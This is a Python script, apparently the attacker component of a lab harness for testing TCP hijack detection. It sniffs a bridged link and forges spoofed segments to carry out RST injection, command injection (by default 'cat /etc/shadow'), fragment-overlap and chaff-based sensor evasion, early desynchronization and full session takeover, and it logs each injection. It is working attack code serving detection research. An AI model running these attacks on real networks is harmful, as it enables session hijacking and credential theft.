"""attacker.py — the lab's attacker: sniffs the link (the bridge floods every frame to
its port), follows one client<->server connection, and injects forged segments with
seq/ack computed from what it saw. Runs inside the attacker namespace as root:

    attacker.py MODE --server ADDR --port P --client ADDR [options]

Invariants: it only ever sends to the client and server addresses it was given (lab
addresses inside the lab's namespaces); every injected packet is reported as a JSON
line ("ev": "inject") so the report can say exactly what the attacker did. Forged
packets impersonate the peer by default: its MAC address, TTL/hop limit, IPv4 ID+1 or
IPv6 flow label, window, and TCP timestamps (the last TSval it sent, echoing the
other side's) — so detection has to come from TCP behaviour, not from a careless
forgery — except where the scenario says otherwise (blind attacks carry no
timestamps; the TTL scenario changes the TTL and drops the timestamps).
"""
import argparse
import json
import os
import random
import socket
import sys

sys.dont_write_bytecode = True  # keep the source tree clean when run from it
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapio  # noqa: E402
from pcapio import ACK, RST, SYN  # noqa: E402

import logging  # noqa: E402
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.layers.inet import IP, TCP  # noqa: E402
from scapy.layers.inet6 import IPv6  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.packet import Raw  # noqa: E402

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def emit(**kw):
    kw.setdefault("t", round(time.time(), 6))
    sys.stdout.write(json.dumps(kw, sort_keys=True) + "\n")
    sys.stdout.flush()


def seq_gt(a, b):
    return ((a - b) & 0xFFFFFFFF) != 0 and ((a - b) & 0xFFFFFFFF) < 0x80000000


class Side:
    """What the attacker knows of one endpoint, from the packets it sent."""

    def __init__(self):
        self.ip = self.port = self.mac = None
        self.nxt = None        # highest seq + seglen seen (SEQ arithmetic)
        self.ack = None        # last ack it sent
        self.win = 502
        self.ttl = 64
        self.ipid = 0
        self.flowlabel = 0
        self.tsval = None
        self.ts_time = 0.0     # when that TSval was seen
        self.isn = None
        self.syn_frame = None  # the raw SYN, to copy its options
        self.data_segs = 0


class Attacker:
    def __init__(self, args):
        self.args = args
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((args.iface, 0))
        self.own_mac = ":".join("%02x" % b for b in self.sock.getsockname()[4][:6])
        self.server = pcapio.norm_ip(args.server)
        self.client = pcapio.norm_ip(args.client)
        self.c, self.s = Side(), Side()
        self.c.ip, self.s.ip, self.s.port = self.client, self.server, args.port
        self.c.mac, self.s.mac = args.client_mac, args.server_mac
        self.injected = 0
        self.deadline = time.time() + args.timeout
        self.last = None      # the last frame of the connection seen
        self.rng = random.Random(args.seed)

    # ------------------------------------------------------------------ sniffing
    def next_frame(self, until=None):
        """The next frame of the target connection (not one we sent), or None at the
        deadline. Updates both sides' state before returning it."""
        end = min(self.deadline, until) if until else self.deadline
        while True:
            left = end - time.time()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                data, addr = self.sock.recvfrom(65535)
            except socket.timeout:
                return None
            if addr[2] == PACKET_OUTGOING:
                continue
            fr = pcapio.parse_frame(data)
            if fr is None:
                continue
            if fr.src == self.client and fr.dst == self.server and fr.dport == self.s.port:
                if self.c.port is None:
                    self.c.port = fr.sport
                if fr.sport != self.c.port:
                    continue
                side = self.c
            elif fr.src == self.server and fr.sport == self.s.port and fr.dst == self.client:
                if self.c.port is None:
                    self.c.port = fr.dport
                if fr.dport != self.c.port:
                    continue
                side = self.s
            else:
                continue
            self.update(side, fr, data)
            self.last = fr
            return fr

    def update(self, side, fr, data):
        side.mac = fr.src_mac
        side.ttl = fr.ttl
        if fr.ipid is not None:
            side.ipid = fr.ipid
        if fr.flowlabel is not None:
            side.flowlabel = fr.flowlabel
        if fr.tsval is not None:
            side.tsval = fr.tsval
            side.ts_time = time.time()
        if not fr.flags & (RST | SYN):
            side.win = fr.win
        if fr.flags & SYN:
            side.isn = fr.seq
            if not fr.flags & ACK:
                side.syn_frame = data
        end = (fr.seq + fr.seglen()) & 0xFFFFFFFF
        if side.nxt is None or seq_gt(end, side.nxt) or fr.flags & SYN:
            side.nxt = end
        if fr.flags & ACK:
            side.ack = fr.ack
        if fr.payload:
            side.data_segs += 1

    def follow(self):
        """Keep following the connection (state only) until the deadline."""
        while self.next_frame() is not None:
            pass

    def wait_for(self, pred, what):
        while True:
            fr = self.next_frame()
            if fr is None:
                emit(ev="timeout", waiting_for=what)
                return None
            if pred(fr):
                return fr

    def from_client(self, fr):
        return fr.src == self.client and fr.sport == self.c.port

    def from_server(self, fr):
        return fr.src == self.server and fr.sport == self.s.port

    # ------------------------------------------------------------------ forging
    def forge(self, frm, flags, seq, ack, payload=b"", ttl=None, ts=True, win=None,
              spoof_mac=True, note="", frags=None, tsval=None, bad_csum=False):
        """Send one TCP segment as endpoint `frm` ('c' or 's') to the other one. frags:
        send it as IP fragments instead, a list of (offset, length, bytes or None) over
        the TCP segment (None: the segment's own bytes there; see fragments()). tsval:
        this TSval instead of the extrapolated one (PAWS chaff). bad_csum: a wrong TCP
        checksum (the right one with bits flipped: not the offload signature, the
        pseudo-header sum a NIC would complete), which the receiver drops."""
        a, b = (self.c, self.s) if frm == "c" else (self.s, self.c)
        hops = ttl if ttl is not None else a.ttl
        if ":" in a.ip:
            ip = IPv6(src=a.ip, dst=b.ip, hlim=hops, fl=a.flowlabel)
        else:
            a.ipid = (a.ipid + 1) & 0xFFFF
            ip = IP(src=a.ip, dst=b.ip, ttl=hops, id=a.ipid, flags="DF")
        opts = []
        if ts and a.tsval is not None:
            tv = self.ts_now(a) if tsval is None else tsval & 0xFFFFFFFF
            opts = [("NOP", None), ("NOP", None), ("Timestamp", (tv, b.tsval or 0))]
        tcp = TCP(sport=a.port, dport=b.port, seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF,
                  flags=flags, window=a.win if win is None else win, options=opts)
        pkt = Ether(src=a.mac if spoof_mac and a.mac else self.own_mac, dst=b.mac) / ip / tcp
        if payload:
            pkt = pkt / Raw(payload)
        if bad_csum:
            good = Ether(bytes(pkt))[TCP].chksum
            pkt[TCP].chksum = good ^ 0x5A5A
        if frags:
            for fr in fragments(bytes(pkt), frags, self.rng.getrandbits(32)):
                self.sock.send(fr)
                time.sleep(0.002)
            self.injected += 1
            emit(ev="inject", dir="c2s" if frm == "c" else "s2c", flags=str(flags),
                 seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF, len=len(payload), ttl=hops,
                 ts=bool(opts), data=payload[:40].decode("latin-1"), note=note,
                 fragments=[[o, n, b is not None] for o, n, b in frags])
            return
        self.send(bytes(pkt), "c2s" if frm == "c" else "s2c", flags, seq, ack, len(payload),
                  hops, bool(opts), payload, note)

    TS_LEAD = 10

    @staticmethod
    def ts_now(side):
        """The impersonated side's TSval now: Linux's TS clock counts milliseconds, so
        extrapolate from the last value seen (a stale one would fail PAWS), TS_LEAD
        ticks ahead: the side may have sent a newer TSval the attacker has not read yet
        (its pure ACK right after the exchange), which the receiver took as TS.Recent;
        a TSval a little ahead passes PAWS, one behind it does not."""
        return (side.tsval + int((time.time() - side.ts_time) * 1000) + Attacker.TS_LEAD) & 0xFFFFFFFF

    def resend_syn(self, seq, note):
        """Send the client's own SYN again with another sequence number (same options)."""
        p = Ether(self.c.syn_frame)
        p[TCP].seq = seq & 0xFFFFFFFF
        del p[TCP].chksum
        if IP in p:
            p[IP].id = (p[IP].id + 7) & 0xFFFF
            del p[IP].chksum
        self.send(bytes(p), "c2s", "S", seq, 0, 0, self.c.ttl, True, b"", note)

    def send(self, frame, direction, flags, seq, ack, plen, ttl, ts, payload, note):
        self.sock.send(frame)
        self.injected += 1
        emit(ev="inject", dir=direction, flags=str(flags), seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF,
             len=plen, ttl=ttl, ts=ts, data=payload[:40].decode("latin-1"), note=note)

    def synack_options(self):
        return [("MSS", 1460 if ":" not in self.s.ip else 1440), ("SAckOK", b""),
                ("Timestamp", (self.rng.getrandbits(32), self.c.tsval or 0)), ("NOP", None),
                ("WScale", 7)]


def _csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(int.from_bytes(b[i:i + 2], "big") for i in range(0, len(b), 2))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def fragments(frame, spec, ident):
    """IP fragments of an Ethernet frame holding one IPv4 (no options) or IPv6 (no
    extension headers) packet: for each (offset, length, bytes) of spec, a fragment
    carrying the L4 bytes [offset, offset+length) — or `bytes` instead (an overlap
    with other data). MF is set unless the fragment reaches the end. IPv4: DF cleared,
    identification = ident & 0xffff; IPv6: a fragment header with identification ident."""
    eth, ip = frame[:14], frame[14:]
    out = []
    if ip[0] >> 4 == 4:
        l4 = ip[20:]
        for off, n, rep in spec:
            data = rep if rep is not None else l4[off:off + n]
            mf = off + n < len(l4)
            h = bytearray(ip[:20])
            h[2:4] = (20 + len(data)).to_bytes(2, "big")
            h[4:6] = (ident & 0xFFFF).to_bytes(2, "big")
            h[6:8] = ((0x2000 if mf else 0) | off // 8).to_bytes(2, "big")
            h[10:12] = b"\0\0"
            h[10:12] = _csum(bytes(h)).to_bytes(2, "big")
            out.append(eth + bytes(h) + data)
    else:
        l4 = ip[40:]
        for off, n, rep in spec:
            data = rep if rep is not None else l4[off:off + n]
            mf = off + n < len(l4)
            h = bytearray(ip[:40])
            h[4:6] = (8 + len(data)).to_bytes(2, "big")
            h[6] = 44
            fh = bytes([ip[6], 0]) + (off | (1 if mf else 0)).to_bytes(2, "big") + ident.to_bytes(4, "big")
            out.append(eth + bytes(h) + fh + data)
    return out


# ---------------------------------------------------------------------- attacks
# Each takes the Attacker and returns nothing; it reports what it did with emit().

def line(text):
    """A command line as the server application reads it (newline-terminated)."""
    return text.rstrip("\n").encode() + b"\n"


def a_rst_blind(at):
    """One RST into the client, inside its receive window but not at the exact next
    sequence number (what a blind attacker who guessed the window hits)."""
    fr = at.wait_for(lambda f: at.from_server(f) and f.payload and at.s.data_segs >= at.args.after, "server data")
    if fr:
        at.forge("s", "RA", at.s.nxt + at.args.offset, at.c.nxt, ts=False, note="blind in-window RST")


def a_rst_exact(at):
    """One RST into the client at exactly the next sequence number the server would
    use, while the server is still sending."""
    fr = at.wait_for(lambda f: at.from_server(f) and f.payload and at.s.data_segs >= at.args.after, "server data")
    if fr:
        at.forge("s", "RA", at.s.nxt, at.c.nxt, note="exact-sequence RST")


def _after_exchange(at, n):
    """Wait until the client has sent n data segments and the server has answered the
    last of them (so both sides' next sequence numbers are known and quiet)."""
    return at.wait_for(lambda f: at.from_server(f) and f.payload and at.c.data_segs >= n
                       and at.s.ack == at.c.nxt, "exchange %d" % n)


def a_inject_data(at):
    """Classic hijack: a command inserted as the client at the client's next sequence
    number, acknowledging everything the server sent."""
    if _after_exchange(at, at.args.after):
        at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command")


def _injected(at):
    """The command to inject as the client, the TCP header length forge() gives it
    (timestamps or not) and the segment's length."""
    data = line(at.args.payload)
    hl = 32 if at.c.tsval is not None else 20
    return data, hl, hl + len(data)


def a_inject_data_frag(at):
    """The classic hijack, the injected segment sent as IP fragments of 24 bytes (the
    first splits the TCP header from its options), in reverse order."""
    if _after_exchange(at, at.args.after):
        data, hl, total = _injected(at)
        spec = [(o, min(24, total - o), None) for o in range(0, total, 24)]
        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, note="injected command, fragmented",
                 frags=list(reversed(spec)))


def a_frag_overlap(at):
    """An injected command in two fragments, and between them a third that overlaps
    the end of the first and the start of the second with other bytes (the classic
    evasion: which version the receiver keeps is its policy; Linux drops the whole
    datagram, so the command never reaches the server)."""
    if _after_exchange(at, at.args.after):
        data, hl, total = _injected(at)
        cut = (hl + 8) // 8 * 8
        other = b"X" * 16
        spec = [(0, cut, None), (cut - 8, len(other), other), (cut, total - cut, None)]
        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, note="overlapping fragments", frags=spec)


def a_race_response(at):
    """Answer the client's request as the server before the real (delayed) answer."""
    fr = at.wait_for(lambda f: at.from_client(f) and f.payload and at.c.data_segs >= at.args.after, "request")
    if fr:
        body = at.args.payload.encode()
        body = body[:at.args.length - 1].ljust(at.args.length - 1, b"!") + b"\n"
        at.forge("s", "PA", fr.ack, (fr.seq + len(fr.payload)) & 0xFFFFFFFF, body, note="forged response")


def a_synack_race(at):
    """A forged SYN-ACK (another ISN) for the client's SYN."""
    fr = at.wait_for(lambda f: at.from_client(f) and f.flags & SYN and not f.flags & ACK, "SYN")
    if fr:
        isn = at.rng.getrandbits(32)
        a, b = at.s, at.c
        if ":" in a.ip:
            ip = IPv6(src=a.ip, dst=b.ip, hlim=64, fl=fr.flowlabel or 0)
        else:
            ip = IP(src=a.ip, dst=b.ip, ttl=64, id=0, flags="DF")
        tcp = TCP(sport=a.port, dport=b.port, seq=isn, ack=(fr.seq + 1) & 0xFFFFFFFF, flags="SA",
                  window=65160 if ":" not in a.ip else 64800, options=at.synack_options())
        pkt = Ether(src=a.mac, dst=b.mac) / ip / tcp
        at.send(bytes(pkt), "s2c", "SA", isn, fr.seq + 1, 0, 64, True, b"", "forged SYN-ACK")
        # follow the connection a little so the report shows what happened
        at.follow()


def a_handshake_data(at):
    """On the client's SYN, data (and then a FIN) as the server before any SYN-ACK: a
    client in SYN-SENT takes only a SYN, so its kernel drops both; the real SYN-ACK
    follows (the scenario delays it)."""
    fr = at.wait_for(lambda f: at.from_client(f) and f.flags & SYN and not f.flags & ACK, "SYN")
    if fr:
        seq = at.rng.getrandbits(32)
        data = b"220 forged banner\r\n"
        at.forge("s", "PA", seq, fr.seq + 1, data, ts=False, note="data to SYN-SENT")
        at.forge("s", "FA", seq + len(data), fr.seq + 1, ts=False, note="FIN to SYN-SENT")
        at.follow()


def a_early_desync(at):
    """Joncheray's early desynchronization: as soon as the server answers the SYN,
    reset the server's side and open it again as the client with another ISN, then
    complete that second handshake, so client and server end up with different
    sequence numbers for one 4-tuple."""
    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
    if not fr:
        return
    at.forge("c", "R", fr.ack, 0, ts=False, note="RST the server's half of the connection")
    new_isn = (at.c.isn + 0x40000000 + at.rng.getrandbits(24)) & 0xFFFFFFFF
    time.sleep(0.02)
    at.resend_syn(new_isn, "new SYN with another ISN")
    fr2 = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK
                      and f.ack == (new_isn + 1) & 0xFFFFFFFF, "second SYN-ACK")
    if fr2:
        at.c.tsval = (at.c.tsval or 0) + 1
        at.forge("c", "A", new_isn + 1, fr2.seq + 1, note="complete the server's new handshake")
        at.follow()


def a_inject_fin(at):
    """A FIN as the client at the client's next sequence number; the real client keeps
    sending data afterwards."""
    if _after_exchange(at, at.args.after):
        at.forge("c", "FA", at.c.nxt, at.s.nxt, note="forged FIN")


def a_spray(at):
    """Blind spraying: many RSTs stepping through the sequence space, all far outside
    the client's window."""
    if not at.wait_for(lambda f: at.from_server(f) and f.payload, "server data"):
        return
    base = at.s.nxt + 0x40000000
    for i in range(at.args.count):
        at.forge("s", "R", base + i * 0x100000, 0, ts=False, note="spray %d" % i if i < 3 else "")
        time.sleep(at.args.gap)


def a_data_spray(at):
    """Blind spraying with data: segments far outside both windows, with ACKs far
    beyond anything sent, alternately as the client and as the server, no timestamps."""
    if not at.wait_for(lambda f: at.from_server(f) and f.payload, "server data"):
        return
    for i in range(at.args.count):
        side = "c" if i % 2 == 0 else "s"
        me, peer = (at.c, at.s) if side == "c" else (at.s, at.c)
        at.forge(side, "PA", (me.nxt + 0x40000000 + i * 1000) & 0xFFFFFFFF,
                 (peer.nxt + 0x30000000 + i * 777) & 0xFFFFFFFF, b"spray", ts=False,
                 note="data spray %d" % i if i < 3 else "")
        time.sleep(at.args.gap)


def a_ttl_inject(at):
    """Data injected as the client with another TTL/hop limit and no timestamps."""
    if _after_exchange(at, at.args.after):
        at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), ttl=at.args.ttl, ts=False,
                 note="injected with TTL %d, no timestamps" % at.args.ttl)


def a_ack_ahead(at):
    """A pure ACK as the client acknowledging far more than the server ever sent."""
    if _after_exchange(at, at.args.after):
        at.forge("c", "A", at.c.nxt, at.s.nxt + at.args.ahead, note="ACK %d bytes ahead" % at.args.ahead)


def a_syn_established(at):
    """A SYN on the 4-tuple of an established connection (another ISN)."""
    if _after_exchange(at, at.args.after):
        at.resend_syn(at.c.nxt + at.rng.randint(100000, 1000000), "SYN into the established connection")


def a_takeover(at):
    """Complete takeover: inject a command as the client, then carry the conversation
    (send the next commands and acknowledge the server's answers) while the real
    client, now desynchronized, stays silent."""
    if not _after_exchange(at, at.args.after):
        return
    my_nxt = at.c.nxt
    for i in range(at.args.count):
        line = b"evil %03d\n" % i
        at.forge("c", "PA", my_nxt, at.s.nxt, line, note="attacker's command %d" % i)
        my_nxt = (my_nxt + len(line)) & 0xFFFFFFFF
        fr = at.wait_for(lambda f: at.from_server(f) and f.payload and f.ack == my_nxt, "answer %d" % i)
        if fr is None:
            return
        at.forge("c", "A", my_nxt, at.s.nxt, note="ACK the server's answer")
        time.sleep(at.args.gap)


def _send_chaff(at, data):
    """One copy of `data` as the client at its next sequence number that the server
    cannot accept: --chaff ttl (TTL / hop limit --ttl, which expires at the router in
    the routed topology) or --chaff paws (a TSval --paws-back ms older than the
    client's clock: RFC 7323 PAWS drops it). Everything else is the client's."""
    if at.args.chaff == "ttl":
        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, ttl=at.args.ttl,
                 note="TTL-limited chaff (TTL %d)" % at.args.ttl)
    else:
        old = at.ts_now(at.c) - at.args.paws_back
        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, tsval=old,
                 note="PAWS chaff (TSval %d ms old)" % at.args.paws_back)


def a_chaff(at):
    """Chaff alone: after the exchange, one undeliverable copy with other bytes over
    the range the real client's next command will fill."""
    if _after_exchange(at, at.args.after):
        _send_chaff(at, b"CHAFF!!\n")


def a_chaff_inject(at):
    """The insertion evasion: an undeliverable copy carrying the bytes the real client
    will send next ("cmd NNN"), then the real injection over the same range. A sensor
    that takes the chaff as the first version sees the client's later bytes agree."""
    if _after_exchange(at, at.args.after):
        _send_chaff(at, b"cmd %03d\n" % at.args.after)
        time.sleep(0.005)
        at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command after chaff")


def a_csum_chaff_inject(at):
    """Bad-checksum chaff around an injection: a copy with a wrong TCP checksum over
    the injection's range carrying the real client's next commands (the insertion
    evasion: a sensor that took it as the first version would see the client's later
    bytes agree), the injected command 5 ms later, and 5 ms after it a second
    bad-checksum copy right behind the injection carrying more of the client's
    commands (a fake continuation). The server's kernel drops both chaff copies."""
    if not _after_exchange(at, at.args.after):
        return
    data = line(at.args.payload)
    real = b"".join(b"cmd %03d\n" % i for i in range(at.args.after, at.args.after + 8))
    seq, ack = at.c.nxt, at.s.nxt
    at.forge("c", "PA", seq, ack, real[:len(data)], bad_csum=True,
             note="bad-checksum chaff before the injection")
    time.sleep(0.005)
    at.forge("c", "PA", seq, ack, data, note="injected command between bad-checksum chaff")
    time.sleep(0.005)
    at.forge("c", "PA", seq + len(data), ack, real[len(data):len(data) + 8], bad_csum=True,
             note="bad-checksum chaff after the injection")


def a_handshake_rst_client(at):
    """RSTs as the server to the client in SYN-SENT (the scenario holds the real
    SYN-ACK back): first one without ACK, which Linux drops (RFC 9293 3.10.7.3: in
    SYN-SENT an RST is acceptable only if its ACK acknowledges the SYN), then an
    RST-ACK acknowledging the SYN, which the client's kernel takes (connect() fails
    with ECONNREFUSED). The real SYN-ACK then reaches a client with no socket."""
    fr = at.wait_for(lambda f: at.from_client(f) and f.flags & SYN and not f.flags & ACK, "SYN")
    if fr:
        seq = at.rng.getrandbits(32)
        at.forge("s", "R", seq, 0, ts=False, note="RST without ACK to SYN-SENT")
        time.sleep(0.02)
        at.forge("s", "RA", seq, fr.seq + 1, ts=False, note="RST-ACK acknowledging the SYN")
        at.follow()


def a_handshake_rst_server(at):
    """An RST as the client to the server in SYN-RCVD, at the server's rcv_nxt (the
    client's ISN + 1), on its SYN-ACK (the scenario holds the client's ACK back).
    Linux's request socket takes an in-window RST and drops the half-open connection;
    the real client's ACK / data then reach the listener, which resets them."""
    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
    if fr:
        at.forge("c", "R", fr.ack, 0, ts=False, note="RST to SYN-RCVD at its rcv_nxt")
        at.follow()


def a_handshake_bad_ack(at):
    """Data as the client to the server in SYN-RCVD, at the right sequence number but
    with an ACK that does not acknowledge the server's SYN-ACK (its ISN + 1 + 100000),
    on its SYN-ACK (the scenario holds the client's ACK back). Linux's request socket
    hands it to the listener, which resets it; the half-open connection stays, and the
    real client completes it."""
    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
    if fr:
        at.forge("c", "PA", fr.ack, fr.seq + 1 + 100000, line(at.args.payload), ts=False,
                 note="data to SYN-RCVD, ACK not of its SYN-ACK")
        at.follow()


ATTACKS = {"csum_chaff_inject": a_csum_chaff_inject, "handshake_bad_ack": a_handshake_bad_ack, "handshake_rst_client": a_handshake_rst_client,
           "handshake_rst_server": a_handshake_rst_server,
           "chaff": a_chaff, "chaff_inject": a_chaff_inject, "handshake_data": a_handshake_data, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
           "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
           "race_response": a_race_response, "synack_race": a_synack_race,
           "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
           "data_spray": a_data_spray,
           "ttl_inject": a_ttl_inject, "ack_ahead": a_ack_ahead, "syn_established": a_syn_established,
           "takeover": a_takeover}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("mode", choices=sorted(ATTACKS))
    p.add_argument("--server", required=True)
    p.add_argument("--client", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--server-mac", default=None)
    p.add_argument("--client-mac", default=None)
    p.add_argument("--iface", default="eth0")
    p.add_argument("--timeout", type=float, default=10.0)
    p.add_argument("--after", type=int, default=1)
    p.add_argument("--offset", type=int, default=5000)
    p.add_argument("--payload", default="INJECTED cat /etc/shadow\n")
    p.add_argument("--length", type=int, default=64)
    p.add_argument("--count", type=int, default=3)
    p.add_argument("--gap", type=float, default=0.05)
    p.add_argument("--ttl", type=int, default=113)
    p.add_argument("--chaff", choices=("ttl", "paws"), default="ttl")
    p.add_argument("--paws-back", type=int, default=100000)
    p.add_argument("--ahead", type=int, default=1000000)
    p.add_argument("--seed", type=int, default=7)
    args = p.parse_args()
    at = Attacker(args)
    emit(ev="ready", mac=at.own_mac)
    ATTACKS[args.mode](at)
    emit(ev="done", injected=at.injected,
         client=[at.c.ip, at.c.port], server=[at.s.ip, at.s.port])
    return 0


if __name__ == "__main__":
    sys.exit(main())
